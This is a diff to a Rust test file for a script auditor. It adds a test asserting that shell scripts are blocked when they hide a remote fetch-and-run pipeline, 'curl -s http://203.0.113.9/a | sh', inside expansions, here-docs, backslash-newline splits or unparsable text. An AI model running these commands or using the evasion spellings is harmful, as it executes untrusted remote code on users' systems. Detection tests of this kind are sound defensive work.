@@ -109,6 +109,25 @@ fn a_command_before_reading_is_judged_however_its_mark_is_spelled() {
     }
 }
 
+#[test]
+fn commands_are_read_wherever_a_shell_would_run_them() {
+    for text in [
+        "echo ${X:-$(FETCH)}",
+        "echo \"${X:-${Y:-$(FETCH)}}\"",
+        "cat <<EOF\nit's $(FETCH)\nEOF",
+        "cu\\\nrl -s http://203.0.113.9/a | s\\\nh",
+        // The grammar takes none of these.
+        "if [ x\n(FETCH)\n",
+        "if [ x\necho `FETCH`\n",
+        "if [ x\ncurl -s http://203.0.113.9/a \\\n  | sh\n",
+        "if [ x\necho \"a \\\" b\"; FETCH\n",
+    ] {
+        let script = text.replace("FETCH", "curl -s http://203.0.113.9/a | sh");
+        let report = audit(&one("run.sh", script.clone().into_bytes()));
+        assert_eq!(report.verdict, Verdict::Blocked, "{script}\n{report:?}");
+    }
+}
+
 fn verdicts(report: &Report) -> String {
     serde_json::to_string(report).unwrap()
 }
